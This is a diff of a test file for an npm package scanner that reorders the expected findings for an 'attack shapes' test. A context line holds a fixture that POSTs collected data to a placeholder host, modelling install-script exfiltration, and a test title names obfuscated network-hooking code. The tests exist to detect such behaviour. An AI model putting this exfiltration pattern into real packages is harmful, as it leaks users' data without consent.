@@ -39,7 +39,7 @@ describe('scan: attack shapes', () => {
         "https.request({ hostname: 'example.invalid', method: 'POST' }).end(data);",
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['high code-host-recon index.js:3', 'high install-script-recon index.js:2', 'low install-script package.json:5']);
+    expect(summary(r)).toEqual(['high install-script-recon index.js:2', 'high code-host-recon index.js:3', 'low install-script package.json:5']);
   });
 
   it('obfuscated code hooking network calls, loaded at require time (chalk/debug, 2025)', async () => {
